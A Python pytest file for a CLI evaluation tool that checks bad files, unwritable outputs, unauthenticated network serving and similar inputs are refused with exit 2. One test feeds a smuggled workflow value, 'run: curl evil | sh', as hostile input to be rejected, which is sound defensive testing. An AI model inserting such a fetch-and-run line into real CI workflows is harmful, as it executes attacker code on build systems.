"""Hostile-input audit regressions: each file a CLI option reads fails with one message and exit 2, no traceback.

Second round (below the first): servers on every interface without a real token, busy ports, an output path
that names an input file (data loss), output folders that cannot be made, read-only verbs creating stores,
monitor / review / init / import / calibrate inputs that were ignored or accepted silently.

Why: the project's contract is that a missing file, a directory, a binary or non-UTF-8 file, or an empty config
is bad input (exit 2, the message names the file); these call sites used to raise UnicodeDecodeError /
IsADirectoryError tracebacks (exit 1) or silently ignore / accept the file. Found by a matrix of verbs x bad
inputs (see the commit messages); every case here failed before its fix.
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from evalwheel.cli import app

ROOT = Path(__file__).resolve().parents[1]
SESSIONS = ROOT / "examples" / "studymode" / "sessions"
NO_SERVER = "http://127.0.0.1:9/v1#m"  # nothing listens on port 9; only used where no model call may happen
runner = CliRunner()

BAD: dict[str, Callable[[Path], Path]] = {}


def _bad(kind: str) -> Callable[[Callable[[Path], Path]], Callable[[Path], Path]]:
    def deco(fn: Callable[[Path], Path]) -> Callable[[Path], Path]:
        BAD[kind] = fn
        return fn

    return deco


@_bad("missing")
def _missing(tmp: Path) -> Path:
    return tmp / "nope.yaml"


@_bad("directory")
def _directory(tmp: Path) -> Path:
    (tmp / "adir.yaml").mkdir()
    return tmp / "adir.yaml"


@_bad("binary")
def _binary(tmp: Path) -> Path:
    (tmp / "bin.yaml").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR")
    return tmp / "bin.yaml"


@_bad("latin1")
def _latin1(tmp: Path) -> Path:
    (tmp / "latin1.yaml").write_bytes(b"name: caf\xe9\n")
    return tmp / "latin1.yaml"


def _store(tmp: Path) -> str:
    return f"sqlite:///{tmp / 'monitor.sqlite'}"


# (verb, argv given the bad file and tmp) -- every verb here read its file with a bare read_text before.
CASES: dict[str, Callable[[Path, Path], list[str]]] = {
    "replay --overlay-file": lambda f, t: ["replay", str(SESSIONS), "--overlay-file", str(f), "--dry-run"],
    "monitor worker --config": lambda f, t: ["monitor", "worker", "--config", str(f), "--once", "--store", _store(t)],
    "monitor windows --config": lambda f, t: ["monitor", "windows", "--config", str(f), "--store", _store(t)],
    "monitor alerts --config": lambda f, t: ["monitor", "alerts", "--config", str(f), "--store", _store(t)],
    "import openai-eval": lambda f, t: ["import", "openai-eval", str(f), "--out", str(t / "imported")],
}


@pytest.mark.parametrize("kind", sorted(BAD))
@pytest.mark.parametrize("verb", sorted(CASES))
def test_unreadable_file_is_exit_2_naming_the_file(verb: str, kind: str, tmp_path: Path) -> None:
    bad = BAD[kind](tmp_path)
    result = runner.invoke(app, CASES[verb](bad, tmp_path))
    assert result.exit_code == 2, (result.output, result.exception)
    assert isinstance(result.exception, SystemExit)  # not an uncaught UnicodeDecodeError / IsADirectoryError
    assert bad.name in result.output.replace("\n", "")


def test_monitor_alerts_validates_config_without_evaluate(tmp_path: Path) -> None:
    """`monitor alerts --config BAD` used to ignore the file unless --evaluate was given (exit 0)."""
    cfg = tmp_path / "monitor.yaml"
    cfg.write_text("sampler: {default_rate: 7}\n", encoding="utf-8")
    result = runner.invoke(app, ["monitor", "alerts", "--config", str(cfg), "--store", _store(tmp_path)])
    assert result.exit_code == 2, result.output
    assert "default_rate" in result.output


def _events(tmp: Path) -> Path:
    logs = tmp / "logs.jsonl"
    row = '{"request_id": "r%d", "app": "tutor", "input": "q", "output": "Which step?", "timestamp": 1.0}\n'
    logs.write_text("".join(row % i for i in range(3)), encoding="utf-8")
    return logs


def test_grade_out_in_a_missing_folder_is_created(tmp_path: Path) -> None:
    """`grade --out new/dir/g.jsonl` was a FileNotFoundError traceback on the temporary `.partial` file."""
    out = tmp_path / "new" / "dir" / "g.jsonl"
    monitor = ROOT / "examples" / "support" / "monitor.yaml"
    result = runner.invoke(app, ["grade", str(_events(tmp_path)), "--graders", str(monitor), "--out", str(out)])
    assert result.exit_code == 0, (result.output, result.exception)
    assert len(out.read_text(encoding="utf-8").splitlines()) == 3


@pytest.mark.parametrize("make_out", ["directory", "unwritable"])
def test_grade_out_that_cannot_be_written_is_exit_2(make_out: str, tmp_path: Path) -> None:
    if make_out == "directory":
        out = tmp_path / "g.jsonl"
        out.mkdir()
    else:
        (tmp_path / "afile").write_text("x", encoding="utf-8")
        out = tmp_path / "afile" / "g.jsonl"  # a folder that is a file: cannot be created, as a read-only mount
    monitor = ROOT / "examples" / "support" / "monitor.yaml"
    result = runner.invoke(app, ["grade", str(_events(tmp_path)), "--graders", str(monitor), "--out", str(out)])
    assert result.exit_code == 2, (result.output, result.exception)
    assert isinstance(result.exception, SystemExit)
    assert "--out" in result.output


def _labels(tmp: Path) -> Path:
    labels = tmp / "labels.jsonl"
    labels.write_text(
        '{"id": "1", "input": "say hi", "output": "hi", "reference": "hi", "label": true}\n', encoding="utf-8"
    )
    return labels


# An empty (zero-byte or whitespace-only) config named on the command line used to mean "all defaults" (exit 0);
# the run spec and its grader config_file already refused it. A comment-only config still means the defaults.
EMPTY_CONFIG: dict[str, Callable[[Path, Path], list[str]]] = {
    "evaluate --config": lambda f, t: ["evaluate", str(SESSIONS), "--config", str(f)],
    "calibrate grader --config": lambda f, t: [
        "calibrate",
        "grader",
        "contains",
        "--labels",
        str(_labels(t)),
        "--config",
        str(f),
    ],
    "monitor windows --config": lambda f, t: ["monitor", "windows", "--config", str(f), "--store", _store(t)],
    "monitor alerts --config": lambda f, t: ["monitor", "alerts", "--config", str(f), "--store", _store(t)],
}


@pytest.mark.parametrize("content", ["", " \n\n"])
@pytest.mark.parametrize("verb", sorted(EMPTY_CONFIG))
def test_empty_config_is_exit_2(verb: str, content: str, tmp_path: Path) -> None:
    cfg = tmp_path / "config.yaml"
    cfg.write_text(content, encoding="utf-8")
    result = runner.invoke(app, EMPTY_CONFIG[verb](cfg, tmp_path))
    assert result.exit_code == 2, (result.output, result.exception)
    assert "config.yaml" in result.output and "the file is empty" in result.output


def test_comment_only_config_still_means_the_defaults(tmp_path: Path) -> None:
    cfg = tmp_path / "config.yaml"
    cfg.write_text("# fidelity_threshold: 0.6\n", encoding="utf-8")
    result = runner.invoke(app, ["evaluate", str(SESSIONS / sorted(p.name for p in SESSIONS.glob("*.json"))[0]),
                                 "--config", str(cfg), "--json"])  # fmt: skip
    assert result.exit_code in (0, 1), (result.output, result.exception)


def test_monitor_grader_config_file_empty_is_exit_2(tmp_path: Path) -> None:
    """grade --graders with an empty `config_file:` used to grade with no options; `run` already refused it."""
    (tmp_path / "constraints.yaml").write_text("", encoding="utf-8")
    graders = tmp_path / "monitor.yaml"
    graders.write_text("graders:\n  - name: constraints\n    config_file: constraints.yaml\n", encoding="utf-8")
    out = tmp_path / "g.jsonl"
    result = runner.invoke(app, ["grade", str(_events(tmp_path)), "--graders", str(graders), "--out", str(out)])
    assert result.exit_code == 2, (result.output, result.exception)
    assert "constraints.yaml" in result.output and "the file is empty" in result.output
    assert not out.exists()


READ_ONLY_VERBS = [
    ["runs", "list"],
    ["runs", "show", "r1"],
    ["compare", "a", "b"],
    # these created an empty store at the typo and reported nothing (exit 0)
    ["monitor", "status"],
    ["monitor", "windows"],
    ["monitor", "alerts"],
    ["monitor", "failures", "--no-embed"],
    ["review", "agreement"],
    ["review", "sync"],
    ["review", "assign", "ana", "ben"],
]


@pytest.mark.parametrize("verb", READ_ONLY_VERBS, ids=" ".join)
@pytest.mark.parametrize("form", ["path", "url", "directory"])
def test_read_only_verbs_do_not_create_a_store_at_a_missing_path(verb: list[str], form: str, tmp_path: Path) -> None:
    """`runs list --store typo.sqlite` used to create an empty store there and print "no runs" (exit 0)."""
    target = tmp_path / "typo.sqlite"
    if form == "directory":
        target.mkdir()
    arg = f"sqlite:///{target}" if form == "url" else str(target)
    result = runner.invoke(app, [*verb, "--store", arg])
    assert result.exit_code == 2, (result.output, result.exception)
    assert "typo.sqlite" in result.output.replace("\n", "")
    assert form == "directory" or not target.exists()


def test_run_with_an_empty_recorded_outputs_file_is_exit_2(tmp_path: Path) -> None:
    """An empty recorded-outputs file made every sample an error (exit 3, "too many run errors")."""
    import shutil

    spec_dir = tmp_path / "support"
    shutil.copytree(ROOT / "examples" / "support", spec_dir)
    (spec_dir / "recorded.jsonl").write_text("", encoding="utf-8")
    store = tmp_path / "runs.sqlite"
    result = runner.invoke(app, ["run", str(spec_dir / "spec.yaml"), "--no-judges", "--store", str(store)])
    assert result.exit_code == 2, (result.output, result.exception)
    assert "recorded.jsonl" in result.output.replace("\n", "") and "the file is empty" in result.output


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    """As the installed `evalwheel` script runs (it calls `evalwheel.cli:app`, not `cli.main`)."""
    code = "import sys; from evalwheel.cli import app; sys.exit(app())"
    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, cwd=ROOT)


def _unwritable(kind: str, tmp: Path, name: str) -> Path:
    if kind == "directory":
        (tmp / name).mkdir()
        return tmp / name
    (tmp / "afile").write_text("x", encoding="utf-8")
    return tmp / "afile" / name  # its folder is a file: cannot be created, like a read-only mount


OUTPUTS: dict[str, Callable[[Path, Path], list[str]]] = {
    "dataset lock --lock": lambda o, t: [
        "dataset",
        "lock",
        str(ROOT / "examples/support/dataset.jsonl"),
        "--lock",
        str(o),
    ],
    "review export --out": lambda o, t: [
        "review",
        "export",
        "--check",
        "x",
        "--out",
        str(o),
        "--store",
        str(t / "s.sqlite"),
    ],
    "run --junit": lambda o, t: [
        "run",
        str(ROOT / "examples/support/spec.yaml"),
        "--no-judges",
        "--store",
        str(t / "r.sqlite"),
        "--junit",
        str(o),
    ],
    "run --markdown": lambda o, t: [
        "run",
        str(ROOT / "examples/support/spec.yaml"),
        "--no-judges",
        "--store",
        str(t / "r.sqlite"),
        "--markdown",
        str(o),
    ],
    "init DIR": lambda o, t: ["init", str(o)],
    # written only after the work: checked before it (a chat or a long calibration was lost at the end)
    "chat --out": lambda o, t: ["chat", "--model", NO_SERVER, "--out", str(o)],
    "calibrate pairwise --out": lambda o, t: [
        "calibrate",
        "pairwise",
        "--llmbar",
        str(ROOT / "tests/fixtures/llmbar_tiny.json"),
        "--model",
        NO_SERVER,
        "--no-progress",
        "--out",
        str(o),
    ],
}


@pytest.mark.parametrize("kind", ["directory", "under-a-file"])
@pytest.mark.parametrize("verb", sorted(OUTPUTS))
def test_unwritable_output_is_exit_2(verb: str, kind: str, tmp_path: Path) -> None:
    """These were IsADirectoryError / FileExistsError / NotADirectoryError tracebacks (exit 1)."""
    if verb == "init DIR" and kind == "directory":
        pytest.skip("init into an existing empty folder is allowed")
    out = _unwritable(kind, tmp_path, "out.x")
    proc = _cli(*OUTPUTS[verb](out, tmp_path))
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr
    assert "out.x" in proc.stderr.replace("\n", "")


def test_grade_an_empty_logs_file_is_exit_2_and_keeps_an_earlier_output(tmp_path: Path) -> None:
    """An empty logs file used to "grade 0 rows" (exit 0) and replace an earlier --out with an empty file."""
    logs = tmp_path / "logs.jsonl"
    logs.write_text("", encoding="utf-8")
    out = tmp_path / "g.jsonl"
    out.write_text("earlier\n", encoding="utf-8")
    monitor = ROOT / "examples" / "support" / "monitor.yaml"
    result = runner.invoke(app, ["grade", str(logs), "--graders", str(monitor), "--out", str(out)])
    assert result.exit_code == 2, (result.output, result.exception)
    assert "logs.jsonl" in result.output and "no rows to grade" in result.output
    assert out.read_text(encoding="utf-8") == "earlier\n"


def test_read_only_verbs_refuse_an_empty_store_file(tmp_path: Path) -> None:
    """`runs list --store empty-file` used to write a SQLite schema into it and report no runs (exit 0)."""
    target = tmp_path / "notes.txt"
    target.write_text("", encoding="utf-8")
    result = runner.invoke(app, ["runs", "list", "--store", str(target)])
    assert result.exit_code == 2, (result.output, result.exception)
    assert "an empty file" in result.output and target.stat().st_size == 0


def test_dataset_validate_with_a_missing_explicit_lock_is_exit_2(tmp_path: Path) -> None:
    """`dataset validate D --lock typo.json` used to report "no golden lock" and exit 0."""
    typo = tmp_path / "typo.lock.json"
    result = runner.invoke(
        app, ["dataset", "validate", str(ROOT / "examples/support/dataset.jsonl"), "--lock", str(typo)]
    )
    assert result.exit_code == 2, (result.output, result.exception)
    assert "typo.lock.json" in result.output.replace("\n", "")
    ok = runner.invoke(app, ["dataset", "validate", str(ROOT / "examples/support/dataset.jsonl")])
    assert ok.exit_code == 0, ok.output  # the default lock next to the dataset is still found


@pytest.mark.parametrize("kind", ["missing", "file"])
def test_serve_golden_dir_must_be_a_folder(kind: str, tmp_path: Path) -> None:
    """`serve --golden-dir` given a file or a missing folder used to start the server anyway."""
    target = tmp_path / "golden"
    if kind == "file":
        target.write_text("x", encoding="utf-8")
    result = runner.invoke(app, ["serve", "--golden-dir", str(target), "--store", str(tmp_path / "s.sqlite")])
    assert result.exit_code == 2, (result.output, result.exception)
    assert "--golden-dir" in result.output and "golden" in result.output


# ------------------------------------------------------------------------------------------------ servers

SERVERS: dict[str, list[str]] = {
    "serve": ["serve", "--create-store"],  # a new store at s.sqlite (else: exit 2, no store there)
    "monitor serve": ["monitor", "serve"],
    "study-web": ["study-web", "--model", NO_SERVER],
}


@pytest.fixture
def no_token_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("EVALWHEEL_SERVE_TOKEN", "EVALWHEEL_MONITOR_TOKEN"):
        monkeypatch.delenv(name, raising=False)


@pytest.mark.parametrize(("host", "token"), [("", None), ("", "   "), ("0.0.0.0", "  ")])
@pytest.mark.parametrize("server", sorted(SERVERS))
def test_every_interface_without_a_real_token_is_refused(
    server: str, host: str, token: str | None, tmp_path: Path, no_token_env: None
) -> None:
    """`--host ''` counted as loopback, but uvicorn binds it to 0.0.0.0 and [::]: served to the network, no token.
    A blank --token passed the check too (and no request can send a blank bearer token)."""
    args = [*SERVERS[server], "--host", host, "--port", "0", "--store", str(tmp_path / "s.sqlite")]
    result = runner.invoke(app, args + (["--token", token] if token is not None else []))
    assert result.exit_code == 2, (result.output, result.exception)
    assert "is not loopback: refusing to serve without a token" in result.output


def test_the_empty_host_is_not_loopback() -> None:
    from evalwheel.serving import is_loopback

    assert not is_loopback("") and is_loopback("localhost") and is_loopback("127.0.0.2") and is_loopback("[::1]")


@pytest.mark.parametrize("server", sorted(SERVERS))
def test_a_busy_port_is_exit_2_naming_the_address(server: str, tmp_path: Path) -> None:
    """uvicorn logged the bind error after the banner and exited 1 or 3 (monitor serve: 'cannot serve ...: 3')."""
    import socket

    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = runner.invoke(app, [*SERVERS[server], "--port", str(port), "--store", str(tmp_path / "s.sqlite")])
    assert result.exit_code == 2, (result.output, result.exception)
    assert f"cannot listen on 127.0.0.1:{port}" in result.output


# ------------------------------------------------------------------------------ an output that is an input


def _copy(src: Path, dst: Path) -> Path:
    dst.write_bytes(src.read_bytes())
    return dst


# (verb, argv given tmp) -> (argv, the input file that must survive). Each replaced the file it had just read.
SAME_FILE: dict[str, Callable[[Path], tuple[list[str], Path]]] = {
    "evaluate --out": lambda t: (
        ["evaluate", str(f := _copy(next(SESSIONS.glob("*.json")), t / "s.json")), "--out", str(f)],
        f,
    ),
    "evaluate FOLDER --out": lambda t: (
        ["evaluate", str(t), "--out", str(_copy(next(SESSIONS.glob("*.json")), t / "s.json"))],
        t / "s.json",
    ),
    "grade --out": lambda t: (
        ["grade", str(f := _events(t)), "--graders", str(ROOT / "examples/support/monitor.yaml"), "--out", str(f)],
        f,
    ),
    "dataset lock --lock": lambda t: (
        ["dataset", "lock", str(f := _copy(ROOT / "examples/support/dataset.jsonl", t / "d.jsonl")), "--lock", str(f)],
        f,
    ),
    "chat --memory --out": lambda t: (
        [
            "chat",
            "--model",
            NO_SERVER,
            "--memory",
            str(f := _copy(next(SESSIONS.glob("*.json")), t / "m.json")),
            "--out",
            str(f),
        ],
        f,
    ),
    "calibrate grader --labels --out": lambda t: (
        ["calibrate", "grader", "contains", "--labels", str(f := _labels(t)), "--no-progress", "--out", str(f)],
        f,
    ),
}


@pytest.mark.parametrize("verb", sorted(SAME_FILE))
def test_an_output_path_naming_an_input_file_is_refused(verb: str, tmp_path: Path) -> None:
    args, victim = SAME_FILE[verb](tmp_path)
    before = victim.read_bytes()
    result = runner.invoke(app, args)
    assert result.exit_code == 2, (result.output, result.exception)
    assert isinstance(result.exception, SystemExit)
    assert "names the input file itself" in result.output
    assert victim.read_bytes() == before


# --------------------------------------------------------------------------------- output folders


def _import_args(out: Path, t: Path) -> list[str]:
    fix = ROOT / "tests/fixtures/openai_evals"
    return ["import", "openai-eval", str(fix / "tutoring_eval.json"), "--data", str(fix / "tutoring_items.jsonl"),
            "--out", str(out)]  # fmt: skip


# Output folders (created): a file at the path, or a file in the way of its parent, was FileExistsError /
# NotADirectoryError traceback (exit 1).
FOLDERS: dict[str, Callable[[Path, Path], list[str]]] = {
    "replay --out": lambda o, t: ["replay", str(next(SESSIONS.glob("*.json"))), "--arms", "human", "--out", str(o)],
    "simulate --out": lambda o, t: [
        "simulate",
        "--arms",
        "base",
        "--learner",
        "scripted",
        "--model",
        NO_SERVER,
        "--limit",
        "1",
        "--turns",
        "1",
        "--out",
        str(o),
    ],
    "data fetch DEST": lambda o, t: ["data", "fetch", str(o), "--name", "uptake"],
    "import openai-eval --out": _import_args,
}


@pytest.mark.parametrize("kind", ["a-file", "under-a-file"])
@pytest.mark.parametrize("verb", sorted(FOLDERS))
def test_an_output_folder_that_cannot_be_made_is_exit_2(verb: str, kind: str, tmp_path: Path) -> None:
    (tmp_path / "afile").write_text("x", encoding="utf-8")
    out = tmp_path / "afile" if kind == "a-file" else tmp_path / "afile" / "out"
    result = runner.invoke(app, FOLDERS[verb](out, tmp_path))
    assert result.exit_code == 2, (result.output, result.exception)
    assert isinstance(result.exception, SystemExit)
    assert str(out) in result.output.replace("\n", "") and "cannot write" in result.output
    assert (tmp_path / "afile").read_text(encoding="utf-8") == "x"


def test_import_refuses_to_replace_a_project_it_did_not_write(tmp_path: Path) -> None:
    """`import openai-eval --out examples/support` silently replaced that project's spec.yaml and dataset."""
    project = tmp_path / "project"
    project.mkdir()
    (project / "spec.yaml").write_text("name: mine\n", encoding="utf-8")
    result = runner.invoke(app, _import_args(project, tmp_path))
    assert result.exit_code == 2, (result.output, result.exception)
    assert "spec.yaml not written by an earlier import" in result.output
    assert (project / "spec.yaml").read_text(encoding="utf-8") == "name: mine\n"
    fresh = tmp_path / "fresh"
    for _ in range(2):  # importing again into its own output replaces it
        again = runner.invoke(app, _import_args(fresh, tmp_path))
        assert again.exit_code == 0, again.output


@pytest.mark.parametrize("shape", ["[1, 2]", '"text"', "null"])
def test_import_data_of_the_wrong_shape_names_the_file(shape: str, tmp_path: Path) -> None:
    """A --data JSON that is not an object said 'no data: pass --data ...' to someone who had passed --data."""
    data = tmp_path / "runs-create.json"
    data.write_text(shape, encoding="utf-8")
    args = ["import", "openai-eval", str(ROOT / "tests/fixtures/openai_evals/tutoring_eval.json"), "--data",
            str(data), "--out", str(tmp_path / "o")]  # fmt: skip
    result = runner.invoke(app, args)
    assert result.exit_code == 2, (result.output, result.exception)
    assert "runs-create.json" in result.output and "no data" not in result.output


# --------------------------------------------------------------------------------------- monitoring


def _monitor_store(tmp: Path) -> str:
    from evalwheel.monitor.queue import MonitorStore

    url = _store(tmp)
    MonitorStore(url).close()
    return url


@pytest.mark.parametrize("kind", ["missing", "directory", "binary", "invalid-jsonl"])
@pytest.mark.parametrize("verb", ["failures", "promote --representatives"])
def test_monitor_dataset_that_cannot_be_read_is_exit_2(verb: str, kind: str, tmp_path: Path) -> None:
    """`monitor failures --dataset typo.jsonl` was ignored (exit 0); a malformed one an InvalidDatasetError
    traceback, also under `promote --representatives`."""
    dataset = tmp_path / "dataset.jsonl"
    if kind == "directory":
        dataset.mkdir()
    elif kind == "binary":
        dataset.write_bytes(b"\x00\x01\x02")
    elif kind == "invalid-jsonl":
        dataset.write_text('{"id": "a"}\nnot json\n', encoding="utf-8")
    store = _monitor_store(tmp_path)
    head = ["monitor", *verb.split(), "--store", store, "--dataset", str(dataset)]
    extra = ["--no-embed"] if verb == "failures" else ["--root-cause", "r"]
    if kind == "missing" and verb != "failures":
        pytest.skip("promote creates a missing dataset")
    result = runner.invoke(app, head + extra)
    assert result.exit_code == 2, (result.output, result.exception)
    assert isinstance(result.exception, SystemExit)
    assert "dataset.jsonl" in result.output


@pytest.mark.parametrize(
    ("option", "value"),
    [("--size", "0"), ("--size", "-5"), ("--size", "nan"), ("--size", "inf"), ("--baseline", "latest")],
)
def test_monitor_windows_options_are_checked(option: str, value: str, tmp_path: Path) -> None:
    """--size 0 meant the config's 300 s, -5 and inf made nonsense windows, nan a ValueError traceback; an unknown
    --baseline silently meant no drift test at all."""
    result = runner.invoke(app, ["monitor", "windows", "--store", _monitor_store(tmp_path), option, value])
    assert result.exit_code == 2, (result.output, result.exception)
    assert isinstance(result.exception, SystemExit)
    assert option in result.output


def test_monitor_config_with_an_unknown_baseline_is_exit_2(tmp_path: Path) -> None:
    cfg = tmp_path / "monitor.yaml"
    cfg.write_text("windows: {baseline: lastweek}\n", encoding="utf-8")
    result = runner.invoke(app, ["monitor", "windows", "--config", str(cfg), "--store", _monitor_store(tmp_path)])
    assert result.exit_code == 2, (result.output, result.exception)
    assert "monitor.yaml" in result.output and "lastweek" in result.output


# ------------------------------------------------------------------------------------------- review


def test_review_assign_to_unknown_reviewers_is_exit_2_even_with_an_empty_queue(tmp_path: Path) -> None:
    """It said 'assigned 0 item(s)' (exit 0) for names nobody had added."""
    from evalwheel.review.store import ReviewStore

    store = tmp_path / "s.sqlite"
    ReviewStore(str(store)).add_reviewer("ana")
    result = runner.invoke(app, ["review", "assign", "ana", "bne", "--store", str(store)])
    assert result.exit_code == 2, (result.output, result.exception)
    assert "unknown reviewer 'bne'" in result.output


def _agreed_item(tmp_path: Path) -> tuple[Any, int]:
    from evalwheel.review import LabelInput, ReviewStore, build_candidates
    from test_web_review import _fill

    review = ReviewStore(f"sqlite:///{tmp_path / 'store.sqlite'}")
    _fill(review.runs, tmp_path)
    review.enqueue(build_candidates(review.runs, ["run-a"], spot_checks=0))
    for name in ("ana", "ben"):
        review.add_reviewer(name)
    item = next(i for i in review.queue(limit=10)[0] if i.sample_id == "s3")
    for name in ("ana", "ben"):
        review.save_label(item.item_id, name, LabelInput(checks={"x": "fail"}))
    return review, item.item_id


def test_golden_promotion_refuses_a_dataset_whose_golden_set_changed_since_its_lock(tmp_path: Path) -> None:
    """Promotion re-locks the dataset: an unreviewed edit to a golden sample was blessed into the new lock."""
    from evalwheel.datasets.lock import write_lock
    from evalwheel.datasets.samples import scan_dataset
    from evalwheel.review import promote_to_golden

    review, item = _agreed_item(tmp_path)
    golden = tmp_path / "golden.jsonl"
    golden.write_text('{"id": "g1", "partition": "golden", "input": "q", "reference": "a"}\n', encoding="utf-8")
    write_lock(scan_dataset(golden))
    golden.write_text('{"id": "g1", "partition": "golden", "input": "q", "reference": "EDITED"}\n', encoding="utf-8")
    lock_before = golden.with_name("golden.jsonl.lock.json").read_bytes()
    with pytest.raises(ValueError, match="g1"):
        promote_to_golden(review, item, golden, "ana")
    assert golden.with_name("golden.jsonl.lock.json").read_bytes() == lock_before
    assert "s3" not in golden.read_text(encoding="utf-8")


@pytest.mark.parametrize("kind", ["directory", "latin1"])
def test_golden_promotion_into_an_unreadable_dataset_is_exit_2(kind: str, tmp_path: Path) -> None:
    """A folder named *.jsonl was an IsADirectoryError traceback; a non-UTF-8 file a bare codec message."""
    _, item = _agreed_item(tmp_path)
    golden = tmp_path / "golden.jsonl"
    if kind == "directory":
        golden.mkdir()
    else:
        golden.write_bytes(b'{"id": "caf\xe9"}\n')
    args = ["review", "promote", str(item), "--dataset", str(golden), "--approver", "ana", "--store",
            str(tmp_path / "store.sqlite")]  # fmt: skip
    result = runner.invoke(app, args)
    assert result.exit_code == 2, (result.output, result.exception)
    assert isinstance(result.exception, SystemExit)
    assert "golden.jsonl" in result.output


# --------------------------------------------------------------------------------------- the rest


@pytest.mark.parametrize("action", ["bogus", "acme/evalwheel", "acme/evalwheel@v1\n      run: curl evil | sh"])
def test_init_refuses_an_action_reference_that_is_not_one(action: str, tmp_path: Path) -> None:
    """--action went verbatim into the workflow YAML (`uses: bogus`, or extra YAML keys), exit 0."""
    result = runner.invoke(app, ["init", str(tmp_path / "p"), "--action", action])
    assert result.exit_code == 2, (result.output, result.exception)
    assert "--action" in result.output and not (tmp_path / "p").exists()
    ok = runner.invoke(app, ["init", str(tmp_path / "q"), "--action", "./"])
    assert ok.exit_code == 0, ok.output


def test_calibrate_grader_config_with_an_unknown_option_names_the_file(tmp_path: Path) -> None:
    """The option was only found on the first item ('failed on item 1'), without naming the config file."""
    cfg = tmp_path / "contains.yaml"
    cfg.write_text("valeu: hi\n", encoding="utf-8")
    args = ["calibrate", "grader", "contains", "--labels", str(_labels(tmp_path)), "--config", str(cfg),
            "--no-progress"]  # fmt: skip
    result = runner.invoke(app, args)
    assert result.exit_code == 2, (result.output, result.exception)
    assert "contains.yaml" in result.output and "'valeu'" in result.output and "failed on item" not in result.output


def test_calibrate_against_a_url_that_is_not_the_api_is_exit_2(tmp_path: Path) -> None:
    """A judge URL serving a web page left every item unscored with exit 0 and no cause; now probed first."""
    import http.server
    import threading

    class Page(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            body = b"<html>welcome</html>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        model = f"http://127.0.0.1:{server.server_address[1]}/v1#judge"
        args = ["calibrate", "pairwise", "--llmbar", str(ROOT / "tests/fixtures/llmbar_tiny.json"), "--model", model,
                "--no-cache", "--no-progress", "--limit", "1"]  # fmt: skip
        result = runner.invoke(app, args)
    finally:
        server.shutdown()
        server.server_close()
    assert result.exit_code == 2, (result.output, result.exception)
    assert "not with an OpenAI chat completion" in result.output


# ------------------------------------------------------------------------------ third round: names and closing

# A model name that no registry form accepts: these verbs only estimate with it or write it into a spec, so they
# never resolved it and went on with exit 0 (the imported spec failed later, at `evalwheel run`).
BAD_MODEL: dict[str, Callable[[Path], list[str]]] = {
    "replay --dry-run --model": lambda t: ["replay", str(SESSIONS), "--dry-run", "--model", "bogus"],
    "replay --dry-run --arms human --model": lambda t: [
        "replay", str(SESSIONS), "--dry-run", "--arms", "human", "--model", "http://127.0.0.1:9/v1"
    ],
    "import openai-eval --judge-model": lambda t: [*_import_args(t / "imported", t), "--judge-model", "bogus"],
    "import openai-eval --model": lambda t: [*_import_args(t / "imported", t), "--model", "openai:"],
}  # fmt: skip


@pytest.mark.parametrize("verb", sorted(BAD_MODEL))
def test_an_invalid_model_name_is_exit_2_naming_the_option(verb: str, tmp_path: Path) -> None:
    args = BAD_MODEL[verb](tmp_path)
    option, value = args[-2:]
    result = runner.invoke(app, args)
    assert result.exit_code == 2, (result.output, result.exception)
    assert isinstance(result.exception, SystemExit)
    text = " ".join(result.output.split())
    assert f"{option}: " in text and repr(value) in text
    assert not (tmp_path / "imported").exists()  # nothing imported


def test_a_valid_model_name_is_accepted_without_a_key_or_a_server(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The up-front check is the registry's form check only: an import for CI needs neither the key nor the model."""
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    result = runner.invoke(app, [*_import_args(tmp_path / "o", tmp_path), "--judge-model", "openai:gpt-4o-mini"])
    assert result.exit_code == 0, result.output
    dry = runner.invoke(app, ["replay", str(SESSIONS), "--dry-run", "--model", NO_SERVER, "--limit", "1"])
    assert dry.exit_code == 0, dry.output


def test_monitor_worker_once_leaves_no_sqlite_log_beside_the_store(tmp_path: Path) -> None:
    """`monitor worker --once` left the store's -wal / -shm files behind: its engine was never disposed (the CLI
    skips the final garbage collection), so SQLite never folded its log back into the file."""
    from evalwheel.monitor.events import Event
    from evalwheel.monitor.queue import Decision, MonitorStore

    db = tmp_path / "monitor.sqlite"
    seed = MonitorStore(str(db))
    event = Event(request_id="r1", app="tutor", input="q", output="Which step?")
    seed.enqueue([(event, Decision("t", True, 1.0, "t"))])
    seed.close()
    assert not Path(f"{db}-wal").exists()
    config = ROOT / "examples" / "support" / "monitor.yaml"
    proc = _cli("monitor", "worker", "--once", "--no-judges", "--config", str(config), "--store", str(db), "--json")
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert '"graded": 1' in proc.stdout
    assert sorted(p.name for p in tmp_path.iterdir()) == ["monitor.sqlite"]


def test_review_export_of_an_unknown_check_is_exit_2_and_writes_nothing(tmp_path: Path) -> None:
    """`review export --check TYPO` wrote an empty labels file (replacing an earlier export) with exit 0."""
    _agreed_item(tmp_path)  # labels on check `x`; the queued items show scores fid, j, x, y
    store = str(tmp_path / "store.sqlite")
    earlier, fresh = tmp_path / "earlier.jsonl", tmp_path / "fresh.jsonl"
    earlier.write_text("earlier\n", encoding="utf-8")
    for out in (earlier, fresh):
        result = runner.invoke(app, ["review", "export", "--check", "unknown", "--out", str(out), "--store", store])
        assert result.exit_code == 2, (result.output, result.exception)
        assert isinstance(result.exception, SystemExit)
        text = " ".join(result.output.split())
        assert "--check" in text and "'unknown'" in text and "known checks: fid, j, x, y" in text
    assert earlier.read_text(encoding="utf-8") == "earlier\n" and not fresh.exists()
